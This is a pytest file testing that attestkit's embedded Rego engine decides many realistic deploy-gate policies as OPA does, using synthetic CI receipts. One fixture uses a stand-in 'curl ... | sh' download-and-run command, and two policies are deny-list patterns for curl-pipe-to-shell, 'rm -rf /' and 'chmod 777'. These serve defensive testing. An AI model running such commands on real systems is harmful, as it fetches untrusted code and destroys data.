"""Realistic deploy-gate policies, decided by the embedded engine exactly as OPA decides them.

Each policy is the kind of file a team writes (rule names, helper functions, partial rules,
messages built with sprintf). OPA compiles every one of them, so attestkit must not refuse
any (a wrong refusal breaks real users), and it must give OPA's violations on each receipt:
a passing one and several failing ones. Guards against checks that refuse ordinary policies.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from attestkit import sign_receipt
from attestkit.core.crypto.keys import PrivateKey
from attestkit.core.policy.base import PolicyContext
from attestkit.core.policy.rego import RegoPolicy, input_document
from tests.conftest import NOW, CliResult, make_receipt, write_json
from tests.rego_oracle import no_network, oracle_decision

__all__ = ["no_network"]

HEAD = "package attest.verification\n\n"
V1 = HEAD + "import rego.v1\n\n"

POLICIES: dict[str, str] = {
    "deny-failed-steps": V1
    + """deny contains msg if {
	some step in input.receipt.steps
	step.exit_code != 0
	msg := sprintf("step %s failed with exit code %d", [step.name, step.exit_code])
}
""",
    "allow-default-false": HEAD
    + """default allow := false

allow if {
	input.signature.verified
	every step in input.receipt.steps {
		step.exit_code == 0
	}
}
""",
    "branch-gate": HEAD
    + """deny contains "deploys must come from main or a release branch" if {
	not on_release_branch
}

on_release_branch if input.receipt.environment.git_branch == "main"

on_release_branch if startswith(input.receipt.environment.git_branch, "release/")
""",
    "glob-release": HEAD
    + """default allow := false

allow if glob.match("release/*", ["/"], input.receipt.environment.git_branch)

allow if input.receipt.environment.git_branch == "main"
""",
    "helper-else": HEAD
    + """severity(code) := "ok" if {
	code == 0
} else := "flaky" if {
	code == 75
} else := "broken"

deny contains msg if {
	some step in input.receipt.steps
	severity(step.exit_code) == "broken"
	msg := sprintf("%s is broken", [step.name])
}
""",
    "default-function": HEAD
    + """default is_protected(_) := false

is_protected(name) if startswith(name, "deploy")

is_protected(name) if name == "publish"

deny contains sprintf("protected step %s did not succeed", [s.name]) if {
	some s in input.receipt.steps
	is_protected(s.name)
	s.exit_code != 0
}
""",
    "output-argument": HEAD
    + """step_label(s) := concat(":", [s.name, s.command])

deny contains label if {
	some s in input.receipt.steps
	s.exit_code != 0
	step_label(s, label)
}
""",
    "partial-object": HEAD
    + """violations[name] := msg if {
	some s in input.receipt.steps
	s.exit_code != 0
	name := s.name
	msg := sprintf("exit %d", [s.exit_code])
}

deny contains msg if {
	some name, reason in violations
	msg := sprintf("%s: %s", [name, reason])
}
""",
    "data-ref": HEAD
    + """required_steps := {"build", "test"}

ran contains s.name if some s in input.receipt.steps

deny contains sprintf("required step %s did not run", [name]) if {
	some name in data.attest.verification.required_steps
	not data.attest.verification.ran[name]
}
""",
    "object-comprehension": V1
    + """exit_codes := {s.name: s.exit_code | some s in input.receipt.steps}

deny contains "tests did not pass" if exit_codes["test"] != 0

deny contains "no test step" if not exit_codes["test"]
""",
    "some-index": V1
    + """deny contains msg if {
	some i, s in input.receipt.steps
	i > 0
	s.start_time < input.receipt.steps[i - 1].start_time
	msg := sprintf("step %d (%s) started before the step before it", [i, s.name])
}
""",
    "every-outputs-hashed": V1
    + """default allow := false

allow if {
	every s in input.receipt.steps {
		every o in s.outputs {
			startswith(o.hash, "blake3:")
		}
	}
}
""",
    "regex-commands": V1
    + """deny contains msg if {
	some s in input.receipt.steps
	regex.match(`curl\\s+.*\\|\\s*(ba)?sh`, s.command)
	msg := sprintf("step %s pipes a download into a shell", [s.name])
}
""",
    "time-freshness": V1
    + """max_age_seconds := 86400

deny contains "receipt is older than a day" if input.age_seconds > max_age_seconds

deny contains "receipt timestamp is in the future" if {
	time.parse_rfc3339_ns(input.receipt.timestamp) > input.now_ns
}
""",
    "signer-allowlist": V1
    + """trusted_signers := {"ci@example.com", "release-bot@example.com"}

default allow := false

allow if {
	input.signature.verified
	input.signature.identity in trusted_signers
}
""",
    "signer-null": V1
    + """deny contains "signer is not trusted" if not input.signature.identity in {"ci@example.com"}
""",
    "vuln-thresholds": V1
    + """limits := {"critical": 0, "high": 3}

vulns := object.get(input.receipt.attestations, ["security", "predicate", "results", "vulnerabilities"], {})

deny contains msg if {
	some level, limit in limits
	found := object.get(vulns, level, 0)
	found > limit
	msg := sprintf("%d %s vulnerabilities (at most %d allowed)", [found, level, limit])
}
""",
    "tests-attestation": V1
    + """tests := input.receipt.attestations.test.predicate.test_results

deny contains "no test attestation" if not input.receipt.attestations.test

deny contains sprintf("%d tests failed", [tests.failed]) if tests.failed > 0

deny contains "no tests ran" if tests.total == 0
""",
    "coverage": V1
    + """min_lines := 80

coverage := object.get(input.receipt.attestations, ["test", "predicate", "coverage", "lines"], 0)

deny contains sprintf("line coverage %v is below %v", [coverage, min_lines]) if coverage < min_lines
""",
    "split-image": V1
    + """deny contains msg if {
	some s in input.receipt.steps
	some o in s.outputs
	parts := split(o.path, "/")
	parts[0] != "dist"
	msg := sprintf("output %s is outside dist/", [o.path])
}
""",
    "count-steps": V1
    + """default allow := false

allow if {
	count(input.receipt.steps) >= 1
	count([s | some s in input.receipt.steps; s.exit_code != 0]) == 0
}
""",
    "nested-head": V1
    + """gate.limits.max_steps := 20

gate.limits.max_duration := 3600

deny contains "too many steps" if count(input.receipt.steps) > gate.limits.max_steps

deny contains "pipeline took too long" if input.receipt.total_duration_secs > gate.limits.max_duration
""",
    "contains-objects": V1
    + """findings contains {"step": s.name, "code": s.exit_code} if {
	some s in input.receipt.steps
	s.exit_code != 0
}

deny contains sprintf("%s exited %d", [f.step, f.code]) if some f in findings
""",
    "deny-objects": V1
    + """deny contains {"msg": "step failed", "step": s.name} if {
	some s in input.receipt.steps
	s.exit_code != 0
}
""",
    "nested-default": V1
    + """default limits.max_critical := 0

limits.max_critical := 2 if input.receipt.environment.DEPLOY_ENV == "staging"

limits.max_high := 3

vulns := input.receipt.attestations.security.predicate.results.vulnerabilities

deny contains sprintf("%d critical vulnerabilities", [vulns.critical]) if vulns.critical > limits.max_critical

deny contains "too many high vulnerabilities" if object.get(vulns, "high", 0) > limits.max_high
""",
    "local-named-like-function": V1
    + """kind(name) := "test" if startswith(name, "test")

kind(name) := "build" if startswith(name, "build")

deny contains msg if {
	some s in input.receipt.steps
	s.exit_code != 0
	kind := object.get({"test": "tests", "build": "builds"}, s.name, "other steps")
	msg := sprintf("%s failed: %s", [kind, s.name])
}

deny contains sprintf("step %s is of no known kind", [s.name]) if {
	some s in input.receipt.steps
	not kind(s.name)
}
""",
    "argument-named-like-function": V1
    + """name(s) := s.name

label(name, code) := sprintf("%s (exit %d)", [name, code])

deny contains label(name(s), s.exit_code) if {
	some s in input.receipt.steps
	s.exit_code != 0
}
""",
    "ref-head-function": V1
    + """checks.failed(s) if s.exit_code != 0

checks.enabled := true

deny contains sprintf("%s failed", [s.name]) if {
	checks.enabled
	some s in input.receipt.steps
	checks.failed(s)
}
""",
    "shadowed-rule-name": V1
    + """name := "pipeline"

deny contains msg if {
	some s in input.receipt.steps
	name := s.name
	s.exit_code != 0
	msg := sprintf("%s failed", [name])
}
""",
    "local-named-like-builtin": V1
    + """failed(s) if s.exit_code != 0

deny contains msg if {
	some s in input.receipt.steps
	failed(s)
	count := 1
	msg := sprintf("%s failed (%d)", [s.name, count])
}
""",
    "wildcards": V1
    + """deny contains "a step failed" if {
	input.receipt.steps[_].exit_code != 0
}

deny contains "an output has no hash" if {
	some _, s in input.receipt.steps
	some o in s.outputs
	not o.hash
}
""",
    "no-import-v1": HEAD
    + """deny contains msg if {
	step := input.receipt.steps[_]
	step.exit_code != 0
	msg := concat(" ", ["step", step.name, "failed"])
}

default allow := false

allow if count(deny) == 0
""",
    "allow-from-deny": V1
    + """deny contains "unsigned" if not input.signature.verified

deny contains sprintf("%s failed", [s.name]) if {
	some s in input.receipt.steps
	s.exit_code != 0
}

default allow := false

allow if count(deny) == 0
""",
    "endswith-artifacts": V1
    + """allowed_suffixes := [".bin", ".tar.gz", ".whl"]

deny contains sprintf("unexpected artifact %s", [o.path]) if {
	some s in input.receipt.steps
	some o in s.outputs
	not has_allowed_suffix(o.path)
}

has_allowed_suffix(path) if {
	some suffix in allowed_suffixes
	endswith(path, suffix)
}
""",
    "env-lookup-default": V1
    + """runner := object.get(input.receipt.environment, "runner", "unknown")

deny contains sprintf("runner %s is not allowed", [runner]) if not runner in {"linux", "github-hosted"}
""",
    "function-multi-def": V1
    + """kind(name) := "build" if startswith(name, "build")

kind(name) := "test" if startswith(name, "test")

deny contains sprintf("unknown step kind: %s", [s.name]) if {
	some s in input.receipt.steps
	not kind(s.name)
}
""",
    "set-ops": V1
    + """required := {"build", "test"}

present := {s.name | some s in input.receipt.steps}

missing := required - present

deny contains sprintf("missing steps: %s", [concat(", ", sort(missing))]) if count(missing) > 0
""",
    "step-order": V1
    + """index_of(name) := i if {
	some i, s in input.receipt.steps
	s.name == name
}

deny contains "test must run after build" if index_of("test") < index_of("build")
""",
    "timestamps": V1
    + """deny contains sprintf("step %s ended before it started", [s.name]) if {
	some s in input.receipt.steps
	time.parse_rfc3339_ns(s.end_time) < time.parse_rfc3339_ns(s.start_time)
}
""",
    "sprintf-many": V1
    + """deny contains msg if {
	some s in input.receipt.steps
	s.exit_code != 0
	msg := sprintf("[%s] %s: exit %d after %v s (%q)", [input.receipt.attest_version, s.name, s.exit_code, s.duration_secs, s.command])
}
""",
    "deny-with-else-helper": V1
    + """branch := b if {
	b := input.receipt.environment.git_branch
} else := "unknown"

deny contains sprintf("branch %s may not deploy", [branch]) if {
	not branch in {"main", "master"}
	not startswith(branch, "release/")
}
""",
    "object-rule-from-data": V1
    + """per_step[s.name] := s.exit_code if some s in input.receipt.steps

deny contains sprintf("%s failed", [name]) if {
	some name, code in data.attest.verification.per_step
	code != 0
}
""",
    "pipeline-hash": V1
    + """default allow := false

allow if {
	startswith(input.receipt.pipeline_hash, "blake3:")
	count(input.receipt.pipeline_hash) == 71
}
""",
    "version-gate": V1
    + """deny contains sprintf("attest version %s is too old", [input.receipt.attest_version]) if {
	semver.compare(input.receipt.attest_version, "0.1.0") < 0
}
""",
    "lower-upper": V1
    + """deny contains "production deploys need a release branch" if {
	lower(input.receipt.environment.DEPLOY_ENV) == "production"
	not startswith(input.receipt.environment.git_branch, "release/")
}
""",
    "any-failed": V1
    + """any_failed if {
	some s in input.receipt.steps
	s.exit_code != 0
}

default allow := false

allow if not any_failed
""",
    "trim-and-replace": V1
    + """branch_name := trim_prefix(input.receipt.environment.git_branch, "refs/heads/")

deny contains sprintf("branch %s is a personal branch", [branch_name]) if {
	regex.match(`^(users|u)/[a-z]+/`, branch_name)
}
""",
    "in-array-membership": V1
    + """approved_runners := ["linux", "github-hosted"]

deny contains "unapproved runner" if not input.receipt.environment.runner in approved_runners
""",
    "nested-function-calls": V1
    + """is_test(s) if contains(lower(s.name), "test")

passed(s) if s.exit_code == 0

deny contains sprintf("test step %s did not pass", [s.name]) if {
	some s in input.receipt.steps
	is_test(s)
	not passed(s)
}
""",
    "rule-value-in-msg": V1
    + """max_failures := 0

failures := count([1 | some s in input.receipt.steps; s.exit_code != 0])

deny contains sprintf("%d failures (max %d)", [failures, max_failures]) if failures > max_failures
""",
    "deny-partial-object-key-msg": V1
    + """deny[msg] := s.name if {
	some s in input.receipt.steps
	s.exit_code != 0
	msg := sprintf("step %s failed", [s.name])
}
""",
    "object-union": V1
    + """defaults := {"runner": "linux", "DEPLOY_ENV": "staging"}

env := object.union(defaults, input.receipt.environment)

deny contains "staging receipts cannot deploy" if env.DEPLOY_ENV == "staging"
""",
    "duration-sum": V1
    + """total := sum([s.duration_secs | some s in input.receipt.steps])

deny contains sprintf("steps took %d s in total", [total]) if total > 600
""",
    "function-calls-function": V1
    + """step_ok(s) if s.exit_code == 0

all_ok(steps) if every s in steps { step_ok(s) }

default allow := false

allow if all_ok(input.receipt.steps)
""",
    # Review: helpers beside locals of their names, partial objects keyed by step names,
    # nested rule paths, defaults, else chains, every and in.
    "limits-by-environment": V1
    + """default limits.max_critical := 0

default limits.max_high := 2

limits.max_critical := 1 if input.receipt.environment.DEPLOY_ENV == "staging"

limits.max_high := 3 if input.receipt.environment.DEPLOY_ENV == "staging"

vulns := object.get(input.receipt.attestations, ["security", "predicate", "results", "vulnerabilities"], {})

count_of(level) := object.get(vulns, level, 0)

deny contains sprintf("%d critical vulnerabilities (at most %d)", [count_of("critical"), limits.max_critical]) if {
	count_of("critical") > limits.max_critical
}

deny contains sprintf("%d high vulnerabilities (at most %d)", [count_of("high"), limits.max_high]) if {
	count_of("high") > limits.max_high
}
""",
    "checks-by-step-name": V1
    + """checks[name] := "failed" if {
	some s in input.receipt.steps
	s.exit_code != 0
	name := s.name
}

checks[name] := "slow" if {
	some s in input.receipt.steps
	s.exit_code == 0
	s.duration_secs > 600
	name := s.name
}

deny contains sprintf("step %s: %s", [name, result]) if {
	some name, result in checks
}
""",
    "status-else-chain": V1
    + """status(s) := "ok" if {
	s.exit_code == 0
} else := "retryable" if {
	s.exit_code in {75, 143}
} else := "failed"

deny contains sprintf("step %s is %s (exit %d)", [s.name, state, s.exit_code]) if {
	some s in input.receipt.steps
	state := status(s)
	state != "ok"
}
""",
    "local-status-beside-function": V1
    + """status(s) := "ok" if s.exit_code == 0

status(s) := "bad" if s.exit_code != 0

summary[s.name] := status(s) if some s in input.receipt.steps

deny contains sprintf("%s: %s", [name, status]) if {
	some name in object.keys(summary)
	status := summary[name]
	status != "ok"
}
""",
    "argument-named-like-helper": V1
    + """branch(receipt) := object.get(receipt.environment, "git_branch", "")

protected(branch) if branch == "main"

protected(branch) if startswith(branch, "release/")

deny contains sprintf("branch %q is not protected", [branch(input.receipt)]) if {
	not protected(branch(input.receipt))
}
""",
    "every-in-function": V1
    + """all_hashed(outputs) if {
	every o in outputs {
		startswith(o.hash, "blake3:")
	}
}

deny contains sprintf("step %s has an output without a blake3 hash", [s.name]) if {
	some s in input.receipt.steps
	not all_hashed(s.outputs)
}

default allow := false

allow if count(input.receipt.steps) > 0
""",
    "default-function-threshold": V1
    + """default max_duration(_) := 300

max_duration(name) := 1200 if startswith(name, "deploy")

max_duration("test") := 600

deny contains sprintf("step %s took %d s (limit %d s)", [s.name, s.duration_secs, max_duration(s.name)]) if {
	some s in input.receipt.steps
	s.duration_secs > max_duration(s.name)
}

deny contains sprintf("pipeline took %d s", [input.receipt.total_duration_secs]) if {
	input.receipt.total_duration_secs > 3600
}
""",
    "required-steps-in": V1
    + """required := ["build", "test"]

names := {s.name | some s in input.receipt.steps}

deny contains sprintf("required step %s is missing", [r]) if {
	some r in required
	not r in names
}

deny contains sprintf("step %s is not allowed in a release", [n]) if {
	some n in names
	startswith(n, "lint-")
	count(names) > 20
}
""",
    "nested-gate-paths": V1
    + """gate.runners.allowed := {"linux", "github-hosted"}

gate.branches.allowed(b) if b == "main"

gate.branches.allowed(b) if startswith(b, "release/")

env := input.receipt.environment

deny contains sprintf("runner %s is not allowed", [env.runner]) if not env.runner in gate.runners.allowed

deny contains sprintf("branch %s may not deploy", [env.git_branch]) if not gate.branches.allowed(env.git_branch)

deny contains "no environment recorded" if count(env) == 0
""",
    "failed-object-and-count": V1
    + """failed[s.name] := s.exit_code if {
	some s in input.receipt.steps
	s.exit_code != 0
}

max_failed := 0

deny contains sprintf("%d steps failed: %s", [count(failed), concat(", ", sort(object.keys(failed)))]) if {
	count(failed) > max_failed
}
""",
    "signed-and-fresh": V1
    + """default fresh := false

fresh if input.age_seconds <= 86400

default trusted := false

trusted if {
	input.signature.verified
	input.signature.identity in {"ci@example.com"}
}

deny contains "receipt is older than a day" if not fresh

deny contains sprintf("signer %v is not trusted", [input.signature.identity]) if not trusted
""",
    "coverage-default-else": V1
    + """coverage := c if {
	c := input.receipt.attestations.test.predicate.coverage.lines
} else := 0

min_coverage := 80 if input.receipt.environment.DEPLOY_ENV == "production" else := 50

deny contains sprintf("coverage %d%% is below %d%%", [coverage, min_coverage]) if coverage < min_coverage
""",
    "tests-summary-helpers": V1
    + """results := object.get(input.receipt.attestations, ["test", "predicate", "test_results"], {})

passed_all(r) if {
	r.total > 0
	r.failed == 0
}

default allow := false

allow if passed_all(results)

deny contains sprintf("%d of %d tests failed", [results.failed, results.total]) if results.failed > 0
""",
    "step-order-helper": V1
    + """position(name) := i if {
	some i, s in input.receipt.steps
	s.name == name
}

must_precede := {"build": "test", "test": "deploy-prod"}

deny contains sprintf("%s must run before %s", [before, after]) if {
	some before, after in must_precede
	position(after) < position(before)
}
""",
    "commands-denylist": V1
    + """matches_banned(command) if regex.match(`curl\\s+.*\\|\\s*sh`, command)

matches_banned(command) if regex.match(`rm\\s+-rf\\s+/`, command)

matches_banned(command) if contains(command, "chmod 777")

deny contains sprintf("step %s runs a banned command: %s", [s.name, s.command]) if {
	some s in input.receipt.steps
	matches_banned(s.command)
}
""",
    "artifacts-by-step": V1
    + """artifacts[s.name] contains o.path if {
	some s in input.receipt.steps
	some o in s.outputs
}

outside_dist(paths) := {p | some p in paths; not startswith(p, "dist/")}

deny contains sprintf("step %s wrote %s outside dist/", [name, p]) if {
	some name, paths in artifacts
	some p in outside_dist(paths)
}
""",
    "environment-rules": V1
    + """default environment := "development"

environment := lower(input.receipt.environment.DEPLOY_ENV)

production if environment == "production"

deny contains sprintf("%s deploys must come from main (got %s)", [environment, branch]) if {
	environment != "development"
	branch := object.get(input.receipt.environment, "git_branch", "none")
	branch != "main"
	not production
}

deny contains sprintf("unknown environment %s", [environment]) if not environment in {"production", "staging", "development"}
""",
    "versions-and-hash": V1
    + """min_version := "0.1.0"

hash_ok(h) if startswith(h, "blake3:")

deny contains sprintf("attest %s is older than %s", [input.receipt.attest_version, min_version]) if {
	semver.compare(input.receipt.attest_version, min_version) < 0
}

deny contains sprintf("pipeline hash %s is not blake3", [input.receipt.pipeline_hash]) if not hash_ok(input.receipt.pipeline_hash)
""",
    "severity-every": V1
    + """exit_ok(code) if code == 0

exit_ok(code) if code == 75

default allow := false

allow if {
	every s in input.receipt.steps {
		exit_ok(s.exit_code)
	}
	count(input.receipt.steps) > 0
}

deny contains sprintf("step %s exited %d", [s.name, s.exit_code]) if {
	some s in input.receipt.steps
	not exit_ok(s.exit_code)
}
""",
    "limits-object-with-helper": V1
    + """limits.steps := 20

limits.duration := 3600

limits.output_bytes := 1000

total_bytes := sum([o.size_bytes | some s in input.receipt.steps; some o in s.outputs])

over(name, value) := sprintf("%s %d is over the limit %d", [name, value, limits[name]]) if value > limits[name]

deny contains over("steps", count(input.receipt.steps))

deny contains over("duration", input.receipt.total_duration_secs)

deny contains over("output_bytes", total_bytes)
""",
    "kind-helper-and-local-kind": V1
    + """kind(name) := "deploy" if startswith(name, "deploy")

kind(name) := "lint" if startswith(name, "lint")

kind(name) := "core" if name in {"build", "test"}

by_kind[k] := count([s | some s in input.receipt.steps; kind(s.name) == k]) if some k in {"deploy", "lint", "core"}

deny contains sprintf("%d %s steps (at most %d)", [n, kind, limit]) if {
	some k, limit in {"lint": 10, "deploy": 0}
	kind := lower(k)
	n := by_kind[kind]
	n > limit
}
""",
    "checks-partial-with-default-msg": V1
    + """default message(_) := "failed"

message(s) := sprintf("exited %d after %d s", [s.exit_code, s.duration_secs]) if s.duration_secs > 0

checks[s.name].passed := s.exit_code == 0 if some s in input.receipt.steps

checks[s.name].message := message(s) if some s in input.receipt.steps

deny contains sprintf("%s %s", [name, check.message]) if {
	some name, check in checks
	not check.passed
}
""",
    "every-nested-in-helper": V1
    + """step_clean(s) if {
	s.exit_code == 0
	every o in s.outputs {
		o.size_bytes > 0
		o.path != ""
	}
}

release_branch := b if {
	b := input.receipt.environment.git_branch
	startswith(b, "release/")
} else := null

deny contains sprintf("release %s has unclean step %s", [release_branch, s.name]) if {
	release_branch != null
	some s in input.receipt.steps
	not step_clean(s)
}

deny contains "no release branch" if release_branch == null
""",
}


def _receipts() -> dict[str, dict[str, Any]]:
    good = make_receipt(total_duration_secs=45)
    good["environment"] = {"git_branch": "main", "runner": "linux", "DEPLOY_ENV": "production"}
    good["steps"][0]["duration_secs"] = 12
    good["steps"].append(
        dict(copy.deepcopy(good["steps"][0]), name="test", command="make test", start_time="2026-11-20T09:59:13Z")
    )
    good["attestations"]["test"]["predicate"]["coverage"] = {"lines": 91}
    failing = copy.deepcopy(good)
    failing["steps"][1]["exit_code"] = 2
    failing["steps"][1]["command"] = "curl -s https://x.example/i.sh | sh"
    failing["steps"][0]["outputs"].append({"path": "tmp/leak.txt", "hash": "sha1:00"})
    deploy = dict(copy.deepcopy(good["steps"][0]), name="deploy-prod", command="./deploy", exit_code=1)
    failing["steps"].append(dict(deploy, duration_secs=900, start_time="2026-11-20T09:58:00Z"))
    failing["total_duration_secs"] = 7200
    for n in range(25):
        failing["steps"].append(dict(copy.deepcopy(good["steps"][0]), name=f"lint-{n}"))
    feature = copy.deepcopy(good)
    feature["environment"] = {"git_branch": "refs/heads/users/bob/x", "runner": "macos", "DEPLOY_ENV": "staging"}
    feature["attest_version"] = "0.0.9"
    feature["attestations"]["security"]["predicate"]["results"]["vulnerabilities"] = {"critical": 1, "high": 4}
    release = copy.deepcopy(good)
    release["environment"] = {"git_branch": "release/1.2", "runner": "github-hosted"}
    release["steps"].reverse()
    release["pipeline_hash"] = "sha256:" + "ab" * 32
    bare = copy.deepcopy(good)
    del bare["attestations"]["test"]
    bare["steps"] = []
    bare["environment"] = {}
    return {"good": good, "failing": failing, "feature": feature, "release": release, "bare": bare}


def _context(receipt: dict[str, Any], identity: str | None, hours_old: int) -> PolicyContext:
    return PolicyContext(
        receipt=receipt, signature_verified=True, signer=identity or "claimed@x", public_key="ed25519:" + "ab" * 32,
        now=datetime(2026, 11, 20 + hours_old // 24, 10 + hours_old % 24, 0, tzinfo=timezone.utc),
        timestamp=datetime(2026, 11, 20, 10, 0, tzinfo=timezone.utc), trusted_identity=identity,
    )  # fmt: skip


def _contexts() -> list[PolicyContext]:
    receipts = _receipts()
    contexts = [_context(r, "ci@example.com", 2) for r in receipts.values()]
    contexts.append(_context(receipts["good"], None, 30))
    contexts.append(_context(receipts["good"], "someone@else", 0))
    return contexts


@pytest.mark.parametrize("name", sorted(POLICIES))
def test_realistic_policy_is_decided_as_opa_decides_it(no_network: None, name: str) -> None:
    text = POLICIES[name]
    policy = RegoPolicy(f"{name}.rego", text)  # a refusal here is a wrong refusal
    verdicts = set()
    for context in _contexts():
        ours = sorted(v.message for v in policy.evaluate(context))
        theirs = oracle_decision(text, input_document(context), policy.has_allow)
        assert theirs == ("ok", ours), f"{name}: attestkit {ours} != OPA {theirs[1]}"
        verdicts.add(tuple(ours))
    assert len(verdicts) > 1, f"{name} gives one verdict on every receipt: it tests nothing"


@pytest.mark.parametrize("name", ["nested-default", "local-named-like-function", "ref-head-function"])
def test_policies_once_wrongly_refused_are_decided_through_the_cli(
    cli: Callable[..., CliResult], tmp_path: Path, key: PrivateKey, name: str
) -> None:
    # Refused (exit 2) as "conflicting rules" or "function used as a value": OPA compiles them.
    receipts = _receipts()
    del receipts["failing"]["steps"][0]["outputs"][1]  # not a blake3 hash: it could not be signed
    write_json(tmp_path / "good.json", sign_receipt(receipts["good"], key))
    write_json(
        tmp_path / "failing.json", sign_receipt(receipts["feature" if name == "nested-default" else "failing"], key)
    )
    (tmp_path / "p.rego").write_text(POLICIES[name], encoding="utf-8")
    args = ["--public-key", key.public_key.text, "--now", NOW, "--policy-file", "p.rego"]
    assert cli("verify", "good.json", *args, cwd=tmp_path).code == 0
    done = cli("verify", "failing.json", *args, cwd=tmp_path)
    assert done.code == 1, done.err
